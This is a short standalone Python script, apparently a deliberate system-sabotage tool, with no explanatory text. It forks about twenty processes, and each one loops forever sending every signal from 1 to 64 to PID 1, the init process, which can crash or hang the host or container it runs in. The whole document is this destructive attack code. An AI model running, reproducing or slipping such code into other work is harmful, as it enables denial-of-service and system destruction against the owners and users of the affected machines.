import ctypes, os

kill = ctypes.CDLL(None).kill
for _ in range(20):
    if os.fork() == 0:
        break
while True:
    for s in range(1, 65):
        kill(1, s)
